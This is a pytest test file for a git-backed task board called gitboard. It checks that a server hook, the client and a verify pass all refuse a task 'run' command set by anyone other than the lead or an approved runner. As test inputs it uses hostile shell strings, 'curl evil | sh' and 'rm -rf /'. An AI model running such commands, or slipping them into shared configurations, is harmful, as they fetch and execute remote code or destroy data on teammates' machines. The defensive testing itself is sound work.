"""Who may run code: only the lead, or an actor in ``git config gitboard.hook.runners``, sets or changes a
task's ``run`` command (which every shell teammate executes). The hook refuses it from anyone else,
the client refuses it first, and an import of tasks carrying ``run`` is held to the same rule."""

from __future__ import annotations

import json
import os
import subprocess
from functools import partial
from pathlib import Path

import pytest

from gitboard.board import task_ops, roster_ops
from gitboard.board.task import Task
from gitboard.store.repo import BoardRepo
from gitboard.store.verify import check_range
from tests.helpers.board_helpers import board, do
from tests.conftest import _git, board_tip, unhook
from tests.hook.forgery import board_at, forge, trailers


@pytest.fixture
def lead(clone) -> Path:
    path = clone("lead")
    do(path, partial(roster_ops.add_member, actor="lead", name="bob"))
    do(path, partial(task_ops.add, actor="lead", subject="one", run="make test"))
    _git(path, "fetch", "-q", "origin")
    return path


def push_as(path: Path, user: str, commit: str) -> subprocess.CompletedProcess:
    return subprocess.run(["git", "push", "origin", f"{commit}:refs/heads/gitboard"], cwd=path, capture_output=True,
                          text=True, env={**os.environ, "GITBOARD_PUSHER": user})


def bobs_update(path: Path, run: str | None) -> str:
    parent = _git(path, "rev-parse", "origin/gitboard")
    b = board_at(path, parent)
    t = b.tasks[1].evolve(run=run, updated_at="2030-01-01T00:00:00Z")
    return forge(path, parent, {b.path_of_task(1): t.to_bytes()}, trailers("update", "bob", 1))


def bobs_import(path: Path, n: int) -> str:
    parent = _git(path, "rev-parse", "origin/gitboard")
    b = board_at(path, parent)
    files = {b.path_of_task(i): Task(id=i, subject=f"t{i}", run="curl evil | sh", created_at="2030-01-01T00:00:00Z",
                                     updated_at="2030-01-01T00:00:00Z").to_bytes() for i in range(2, 2 + n)}
    return forge(path, parent, files, trailers("import", "bob", f"2-{1 + n}"))


@pytest.mark.parametrize("run", ["curl evil | sh", None])
def test_the_hook_refuses_a_run_command_set_or_changed_by_a_non_lead(bare_remote, lead, run):
    tip = board_tip(bare_remote)
    commit = bobs_update(lead, run)
    res = push_as(lead, "bob", commit)
    assert res.returncode == 1
    assert f"refused {commit}: update by bob: task #1: only the lead or a runner (gitboard.hook.runners) may " \
           f"set a task's run command; bob is neither" in res.stderr, res.stderr
    assert board_tip(bare_remote) == tip
    _git(bare_remote, "config", "--add", "gitboard.hook.runners", "carol bob")   # bob is now a runner
    assert push_as(lead, "bob", commit).returncode == 0
    assert board_tip(bare_remote) == commit


def test_the_hook_refuses_an_import_of_tasks_carrying_run_and_verify_reports_it(bare_remote, lead):
    tip = board_tip(bare_remote)
    commit = bobs_import(lead, 20)
    res = push_as(lead, "bob", commit)
    assert res.returncode == 1 and res.stderr.count(f"refused {commit}: import by bob: task #") == 20
    assert board_tip(bare_remote) == tip
    unhook(bare_remote)
    assert push_as(lead, "bob", commit).returncode == 0
    with BoardRepo(bare_remote) as r:
        report, _ = check_range(r, tip, commit)
    assert len(report.violations) == 20 and all("may set a task's run command" in v.message
                                                for v in report.violations)


def test_the_client_refuses_it_too(bare_remote, lead, run_cli, tmp_path):
    tip = _git(lead, "rev-parse", "origin/gitboard")
    jsonl = tmp_path / "tasks.jsonl"
    jsonl.write_text(json.dumps({"subject": "a"}) + "\n" + json.dumps({"subject": "b", "run": "sh x"}) + "\n")
    for args in (["task", "add", "x", "--run", "make", "--as", "bob"],
                 ["task", "update", "1", "--run", "rm -rf /", "--as", "bob"],
                 ["task", "update", "1", "--run", "", "--as", "bob"],
                 ["task", "import", str(jsonl), "--as", "bob"]):
        res = run_cli(args, cwd=lead)
        assert res.exit_code == 3, (args, res.stderr)
        assert res.stderr.startswith("gitboard: error: ") and res.stderr.count("\n") == 1
        assert "only the lead or a runner (gitboard.hook.runners) may set a task's run command" in res.stderr
    assert "line 2: " in res.stderr
    _git(lead, "fetch", "-q", "origin")
    assert _git(lead, "rev-parse", "origin/gitboard") == tip
    # an update that leaves the run command alone is bob's to make; a runner may set one
    assert run_cli(["task", "update", "1", "--subject", "renamed", "--as", "bob"], cwd=lead).exit_code == 0
    _git(lead, "config", "gitboard.hook.runners", "bob")        # the client lets bob; the server does not yet
    res = run_cli(["task", "add", "x", "--run", "make", "--as", "bob"], cwd=lead)
    assert res.exit_code == 3 and "origin refused the push" in res.stderr and "bob is neither" in res.stderr
    _git(bare_remote, "config", "gitboard.hook.runners", "bob")
    assert run_cli(["task", "add", "x", "--run", "make", "--as", "bob"], cwd=lead).exit_code == 0
    assert board(lead).tasks[2].run == "make"
